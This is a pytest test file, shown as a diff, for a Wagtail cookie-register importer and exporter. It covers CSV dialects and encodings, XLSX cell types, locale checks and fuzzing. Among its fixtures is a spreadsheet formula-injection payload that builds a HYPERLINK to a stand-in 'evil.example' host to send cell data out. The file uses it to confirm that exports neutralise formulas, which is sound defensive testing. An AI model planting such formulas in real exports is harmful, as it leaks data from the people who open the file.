@@ -1,0 +1,377 @@
+"""Files as people save them: CSV dialects and encodings, French headers, XLSX, formulas,
+the file's locale, and malformed values that must end in a located error, never a traceback."""
+
+import csv
+import datetime
+import io
+import json
+import random
+import zipfile
+
+import pytest
+from django.core.management import CommandError, call_command
+from django.urls import reverse
+from django.utils import translation
+from openpyxl import Workbook, load_workbook
+from wagtail.models import Locale
+
+from wagtail_charte.models import Cookie
+from wagtail_charte.register.transfer.errors import TransferError
+from wagtail_charte.register.transfer.export import EXPORTERS, export_csv, export_xlsx
+from wagtail_charte.register.transfer.importer import plan_import
+from wagtail_charte.register.transfer.parse import parse
+from wagtail_charte.spreadsheet import neutralise, restore
+
+from .test_transfer import register_state
+
+pytestmark = pytest.mark.django_db
+HEADER = ["category", "provider", "service", "name", "purpose", "party", "lifetime", "locale"]
+
+
+@pytest.fixture(autouse=True)
+def english(demo):
+    with translation.override("en"):
+        yield
+
+
+def fr():
+    return Locale.objects.get(language_code="fr")
+
+
+def run_import(tmp_path, content, *args, name="register.csv", locale="fr"):
+    path = tmp_path / name
+    path.write_bytes(content)
+    out = io.StringIO()
+    call_command("charte_import", str(path), "--locale", locale, *args, stdout=out, stderr=out)
+    return out.getvalue()
+
+
+def exported_rows(locale="fr"):
+    return list(csv.reader(io.StringIO(export_csv(Locale.objects.get(language_code=locale)))))
+
+
+def as_csv(rows, delimiter=",", bom=False, encoding="utf-8"):
+    output = io.StringIO()
+    csv.writer(output, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
+    return (b"\xef\xbb\xbf" if bom else b"") + output.getvalue().encode(encoding)
+
+
+def as_xlsx(rows, prepare=None):
+    workbook = Workbook()
+    sheet = workbook.active
+    for row in rows:
+        sheet.append(row)
+    if prepare:
+        prepare(sheet)
+    output = io.BytesIO()
+    workbook.save(output)
+    return output.getvalue()
+
+
+def errors_of(content, name="register.csv"):
+    with pytest.raises(TransferError) as caught:
+        parse(content, name)
+    return str(caught.value)
+
+
+# CSV as spreadsheets save it
+
+
+@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
+@pytest.mark.parametrize("bom", [False, True])
+def test_csv_with_any_delimiter_and_with_or_without_bom_round_trips(tmp_path, delimiter, bom):
+    before = register_state()
+    output = run_import(tmp_path, as_csv(exported_rows(), delimiter, bom))
+    assert "Cookies: 0 created, 0 updated, 5 unchanged, 0 deleted." in output
+    assert register_state() == before
+
+
+def test_french_headings_in_any_order_without_the_locale_column(tmp_path):
+    rows = exported_rows()
+    french = ["catégorie", "prestataire", "service", "nom", "finalité", "origine", "durée de vie"]
+    order = [6, 3, 0, 1, 2, 4, 5]
+    table = [[french[i].upper() if i == 3 else french[i] for i in order]]
+    table += [[row[i] for i in order] for row in rows[1:]]
+    table[1][order.index(4)] = "Une autre finalité."
+    output = run_import(tmp_path, as_csv(table, ";"))
+    assert "0 created, 1 updated, 4 unchanged" in output
+    assert Cookie.objects.get(locale=fr(), name=rows[1][3]).purpose == "Une autre finalité."
+
+
+def test_a_csv_in_another_encoding_is_refused_with_how_to_save_it_as_utf8(tmp_path):
+    rows = exported_rows()
+    content = as_csv(rows, ";", encoding="cp1252")
+    before = register_state()
+    with pytest.raises(CommandError, match=r"Line 3: the file is not valid UTF-8 text.*CSV UTF-8"):
+        run_import(tmp_path, content)
+    with pytest.raises(CommandError, match="UTF-16"):
+        run_import(tmp_path, as_csv(rows, "\t").decode().encode("utf-16"))
+    assert register_state() == before
+
+
+@pytest.mark.parametrize(
+    "header, message",
+    [
+        (["category", "provider", "name"], "Line 1: the column “service” is missing."),
+        ([*HEADER, "colour"], "Line 1: unknown column “colour”"),
+        ([*HEADER, "Nom"], "Line 1: the column “name” appears twice."),
+    ],
+)
+def test_a_bad_header_is_named(header, message):
+    assert message in errors_of(as_csv([header]))
+
+
+def test_every_bad_row_is_reported_at_once():
+    rows = exported_rows()
+    rows[2][7] = "en"
+    rows.append(["necessary", "Opendatasoft", "", "x", "y", "first", "session", "fr", "extra"])
+    message = errors_of(as_csv(rows))
+    assert "Line 3, field “locale”: “en”, where Line 2 says “fr”: a file holds one locale." in (
+        message
+    )
+    assert "Line 7: expected 8 fields, found 9." in message
+
+
+# Formulas
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A2)',
+    "+33 1 23 45 67 89",
+    "-1",
+    "@SUM(A1:A2)",
+    "'quoted'",
+    "''two quotes",
+]
+
+
+def test_neutralise_is_reversible_and_leaves_other_text_alone():
+    for value in [*FORMULAS, "plain", "", "a=b", " =x"]:
+        assert restore(neutralise(value)) == value
+    assert neutralise(FORMULAS[0]).startswith("'=")
+    assert neutralise("plain") == "plain" and neutralise(7) == 7
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_formulas_are_neutralised_in_exports_and_round_trip(tmp_path, fmt):
+    cookies = list(Cookie.objects.filter(locale=fr()).order_by("pk"))
+    for cookie, value in zip(cookies, FORMULAS, strict=False):
+        cookie.purpose = value
+        cookie.service = value
+        cookie.save_revision().publish()
+    if fmt == "csv":
+        exported = export_csv(fr())
+        cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
+        assert "'" + FORMULAS[0] in cells and FORMULAS[0] not in cells
+        content = exported.encode()
+    else:
+        content = export_xlsx(fr())
+        sheet = load_workbook(io.BytesIO(content)).active
+        cells = [cell for row in sheet.iter_rows() for cell in row]
+        assert FORMULAS[0] in [cell.value for cell in cells]
+        assert {cell.data_type for cell in cells} == {"s"}  # text, never a formula
+    before = register_state()
+    output = run_import(tmp_path, content, name=f"register.{fmt}")
+    assert "0 updated, 5 unchanged" in output
+    assert register_state() == before
+    cookie = Cookie.objects.get(pk=cookies[0].pk)
+    assert cookie.purpose == FORMULAS[0]
+
+
+def test_listing_and_report_csv_exports_are_neutralised(admin_client):
+    cookie = Cookie.objects.filter(locale=fr()).first()
+    Cookie.objects.filter(pk=cookie.pk).update(purpose=FORMULAS[0])
+    en = Locale.objects.get(language_code="en")
+    Cookie.objects.filter(locale=en, translation_key=cookie.translation_key).delete()
+    Cookie.objects.filter(pk=cookie.pk).update(name="@evil")
+    listing_url = reverse(Cookie.snippet_viewset.get_url_name("list"))
+    listing = admin_client.get(listing_url, {"export": "csv", "locale": "fr"})
+    body = b"".join(listing.streaming_content).decode("utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
+    assert "'" + FORMULAS[0] in cells and FORMULAS[0] not in cells
+    report = admin_client.get(reverse("wagtail_charte_translation_status"), {"export": "csv"})
+    body = b"".join(report.streaming_content).decode("utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
+    assert "'@evil" in cells and "@evil" not in cells
+
+
+# XLSX
+
+
+def test_xlsx_export_imports_back_and_reads_numbers_as_text(tmp_path):
+    before = register_state()
+    run_import(tmp_path, export_xlsx(fr()), name="register.xlsx")
+    assert register_state() == before
+    rows = exported_rows()
+    rows[1][6] = "6 months"
+    content = as_xlsx(rows, lambda sheet: sheet.cell(2, 4, 12345))  # a number for a name
+    output = run_import(tmp_path, content, name="register.xlsx")
+    assert "1 created" in output
+    assert Cookie.objects.filter(locale=fr(), name="12345").exists()
+
+
+def xlsx_with(value, **cell):
+    def prepare(sheet):
+        target = sheet.cell(3, 7, value)
+        for key, attribute in cell.items():
+            setattr(target, key, attribute)
+
+    return as_xlsx(exported_rows(), prepare)
+
+
+def huge_integer_workbook():
+    return with_sheet_xml(
+        xlsx_with(1), lambda xml: xml.replace(b"<v>1</v>", b"<v>" + b"9" * 5001 + b"</v>")
+    )
+
+
+def with_sheet_xml(content, change):
+    """The workbook `content` with its first sheet's XML changed."""
+    source = zipfile.ZipFile(io.BytesIO(content))
+    output = io.BytesIO()
+    with zipfile.ZipFile(output, "w") as target:
+        for info in source.infolist():
+            data = source.read(info)
+            if info.filename == "xl/worksheets/sheet1.xml":
+                data = change(data)
+            target.writestr(info, data)
+    return output.getvalue()
+
+
+CELL = "Row 3, field “lifetime”"
+
+
+@pytest.mark.parametrize(
+    "content, message",
+    [
+        (lambda: xlsx_with("=1+1"), "Row 3, field “lifetime”: the cell holds a formula"),
+        (
+            lambda: xlsx_with(datetime.date(2024, 1, 2)),
+            "Row 3, field “lifetime”: the cell holds a date",
+        ),
+        (lambda: xlsx_with(True), "Row 3, field “lifetime”: the cell holds TRUE or FALSE"),
+        (
+            lambda: xlsx_with("#N/A", data_type="e"),
+            "Row 3, field “lifetime”: the cell holds the error",
+        ),
+        (huge_integer_workbook, "Below row 2: a cell cannot be read"),
+        (lambda: as_xlsx([]), "The file is empty"),
+        (lambda: b"PK\x03\x04 not really a zip", "cannot be read as an Excel workbook"),
+        (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "old Excel file (.xls)"),
+    ],
+)
+def test_bad_xlsx_cells_and_files_are_located_errors(content, message):
+    assert message in errors_of(content(), "register.xlsx")
+
+
+def test_merged_cells_are_read_as_the_first_cell_and_empty_ones(tmp_path):
+    content = as_xlsx(exported_rows(), lambda sheet: sheet.merge_cells("D3:E3"))
+    before = register_state()
+    with pytest.raises(CommandError, match="Row 3, field “purpose”: This field cannot be blank"):
+        run_import(tmp_path, content, name="register.xlsx")
+    assert register_state() == before
+
+
+def test_control_characters_in_a_csv_cell_are_located_errors():
+    rows = exported_rows()
+    rows[2][4] = "a\x0bb"
+    assert "Line 3, field “purpose”: contains an invalid character (U+000B)" in errors_of(
+        as_csv(rows)
+    )
+
+
+# JSON
+
+
+def test_a_json_number_of_5001_digits_is_a_located_error(tmp_path):
+    data = json.loads(call_export_json())
+    text = json.dumps(data).replace('"order": 10', '"order": ' + "9" * 5001, 1)
+    with pytest.raises(CommandError, match="Category 1, field “order”: this number has too many"):
+        run_import(tmp_path, text.encode(), name="register.json")
+    text = json.dumps(data).replace('"name": "sessionid"', '"name": ' + "9" * 5001, 1)
+    with pytest.raises(CommandError, match="field “name”: this number has too many digits"):
+        run_import(tmp_path, text.encode(), name="register.json")
+
+
+def test_json_text_with_nul_or_a_lone_surrogate_is_refused(tmp_path):
+    data = json.loads(call_export_json())
+    data["cookies"][0]["purpose"] = "a\u0000b"
+    data["cookies"][1]["service"] = "\ud800"
+    before = register_state()
+    with pytest.raises(CommandError) as caught:
+        run_import(tmp_path, json.dumps(data).encode(), name="register.json")
+    assert "Cookie 1, field “purpose”: contains an invalid character (U+0000)" in str(caught.value)
+    assert "Cookie 2, field “service”: contains an invalid character (U+D800)" in str(caught.value)
+    assert register_state() == before
+
+
+def call_export_json(locale="fr"):
+    out = io.StringIO()
+    call_command("charte_export", "--locale", locale, "--format", "json", stdout=out)
+    return out.getvalue()
+
+
+# The file's locale
+
+
+@pytest.mark.parametrize("fmt", ["csv", "json"])
+def test_a_file_exported_from_another_locale_is_refused_unless_allowed(tmp_path, fmt):
+    out = io.StringIO()
+    call_command("charte_export", "--locale", "en", "--format", fmt, stdout=out)
+    before = register_state()
+    with pytest.raises(CommandError, match="This file comes from the “en” register, not “fr”"):
+        run_import(tmp_path, out.getvalue().encode(), name=f"en.{fmt}")
+    assert register_state() == before
+    output = run_import(
+        tmp_path, out.getvalue().encode(), "--allow-locale-mismatch", "--dry-run", name=f"en.{fmt}"
+    )
+    assert "updated" in output and "Dry run: nothing was written." in output
+    assert register_state() == before
+
+
+def test_export_writes_xlsx_to_a_file_only(tmp_path):
+    path = tmp_path / "cookies.xlsx"
+    call_command("charte_export", "--locale", "fr", "--format", "xlsx", "--output", str(path))
+    assert load_workbook(path).active.cell(1, 8).value == "locale"
+    with pytest.raises(CommandError, match="give a file with --output"):
+        call_command("charte_export", "--locale", "fr", "--format", "xlsx")
+
+
+# Fuzz: whatever the bytes, a TransferError or a document, never anything else
+
+
+def mutations(content, seed):
+    chance = random.Random(seed)
+    data = bytearray(content)
+    for _ in range(chance.randint(1, 8)):
+        position = chance.randrange(len(data))
+        action = chance.choice(["flip", "cut", "insert", "truncate"])
+        if action == "flip":
+            data[position] = chance.randrange(256)
+        elif action == "cut":
+            del data[position : position + chance.randint(1, 20)]
+        elif action == "insert":
+            data[position:position] = chance.choice(
+                [b'"', b";", b"\n", b"\x00", b"{", b"]", b"9" * 5001, b"\xff", b"=1+1", b"\r"]
+            )
+        else:
+            del data[position:]
+        if not data:
+            break
+    return bytes(data)
+
+
+@pytest.mark.parametrize("fmt", ["csv", "json", "xlsx"])
+def test_malformed_files_raise_transfer_errors_only(fmt):
+    content = EXPORTERS[fmt](fr())
+    content = content.encode() if isinstance(content, str) else content
+    for seed in range(60):
+        if fmt == "xlsx":  # a changed byte of the archive fails its checksum: change the XML
+            mutated = with_sheet_xml(content, lambda xml, seed=seed: mutations(xml, seed))
+        else:
+            mutated = mutations(content, seed)
+        try:
+            document = parse(mutated, f"register.{fmt}")
+            plan_import(document, fr(), delete_missing=True, allow_locale_mismatch=True)
+        except TransferError:
+            pass
